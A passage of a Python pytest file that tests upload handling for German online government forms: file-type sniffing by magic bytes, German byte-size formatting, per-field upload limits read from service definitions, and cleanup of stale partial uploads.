        (_ftyp(b"heic", b"mif1", b"heic"), HEIC),
        (_ftyp(b"mif1", b"mif1", b"heic"), HEIC),
        (_ftyp(b"mif1", b"mif1"), HEIF),
        (_ftyp(b"avif", b"mif1", b"miaf"), None),
        (_ftyp(b"isom", b"isom", b"mp41"), None),  # an MP4 video
        (odt_bytes()[:512], ODT),
        (docx_bytes()[:512], ZIP),  # told apart from other ZIPs only by inspect_zip
        (EXE_BYTES, None),
        (b"\x7fELF\x02\x01\x01", None),
        (SCRIPT_BYTES, None),
        (HTML_BYTES, None),
        (b" %PDF-1.7", None),
        (b"", None),
    ],
)
def test_sniff_media_type(head: bytes, expected: str | None) -> None:
    assert sniff_media_type(head) == expected


@pytest.mark.parametrize(
    ("n", "text"),
    [
        (0, "0 Bytes"),
        (1, "1 Byte"),
        (850, "850 Bytes"),
        (1024, "1 KB"),
        (1536, "1,5 KB"),
        (850 * 1024, "850 KB"),
        (1024 * 1024 - 1, "1 MB"),
        (1_258_291, "1,2 MB"),
        (10_485_760, "10 MB"),
        (25 * MIB, "25 MB"),
        (3 * 1024**3 // 2, "1,5 GB"),
    ],
)
def test_format_bytes(n: int, text: str) -> None:
    assert format_bytes(n) == text


def test_describe_types() -> None:
    assert describe_types([PDF]) == "PDF"
    assert describe_types([PDF, PNG]) == "PDF oder PNG"
    assert describe_types([PDF, "image/jpeg", PNG]) == "PDF, JPG oder PNG"
    assert describe_types([HEIC, HEIF]) == "HEIC oder HEIF"


def test_with_matching_extension_keeps_names_short() -> None:
    name = "x" * MAX_NAME_LENGTH
    assert with_matching_extension(name, PDF) == "x" * (MAX_NAME_LENGTH - 4) + ".pdf"


# --- policies from definitions -----------------------------------------------------------------


def load_service(name: str) -> dict[str, Any]:
    return json.loads((SERVICES / f"{name}.json").read_text(encoding="utf-8"))


def test_policy_for_a_single_file_field() -> None:
    root = load_service("kita-anmeldung")
    policy = policy_for_field(root["properties"]["masernschutz"], root)
    assert policy.accept == (PDF, "image/jpeg", PNG)
    assert policy.max_bytes == 10 * MIB
    assert policy.max_files == 1
    assert policy.label


def test_policies_for_definition_follow_form_names() -> None:
    wohngeld = load_service("wohngeld")
    lookup = policies_for_definition(wohngeld, attached={"nachweise": 2})
    nachweise = lookup("nachweise")
    assert nachweise is not None and nachweise.max_files == 5 - 2
    assert lookup("nachweise.0") is None
    assert lookup("unbekannt") is None

    hunde = load_service("hundesteuer-anmeldung")
    lookup = policies_for_definition(hunde)
    wesenstest = lookup("hunde.0.wesenstest")
    assert wesenstest is not None and wesenstest.max_files == 1
    assert lookup("hunde.wesenstest") is None
    assert lookup("hunde.0.name") is None
    assert lookup("hunde.0") is None


def test_policy_for_a_non_file_field_is_an_error() -> None:
    root = load_service("kita-anmeldung")
    name = next(n for n, s in root["properties"].items() if s.get("type") == "string")
    with pytest.raises(DefinitionError):
        policy_for_field(root["properties"][name], root)


def test_remove_stale_uploads(tmp_path: Path) -> None:
    stale = tmp_path / "upload-old.part"
    fresh = tmp_path / "upload-new.part"
    other = tmp_path / "keep.txt"
    for path in (stale, fresh, other):
        path.write_bytes(b"x")
    past = time.time() - 3 * 86400
    os.utime(stale, (past, past))
    os.utime(other, (past, past))
    cutoff = datetime.now(UTC) - timedelta(days=1)
    assert remove_stale_uploads(tmp_path, cutoff) == 1
    assert sorted(p.name for p in tmp_path.iterdir()) == ["keep.txt", "upload-new.part"]
    with pytest.raises(ValueError):
        remove_stale_uploads(tmp_path, datetime.now())
    assert remove_stale_uploads(tmp_path / "missing", cutoff) == 0


def test_the_format_accepts_exactly_the_types_uploads_recognise() -> None:
    from form_definitions.fields import ACCEPTABLE_MEDIA_TYPES
    from renderer.uploads import FILE_TYPES

    assert set(FILE_TYPES) == ACCEPTABLE_MEDIA_TYPES
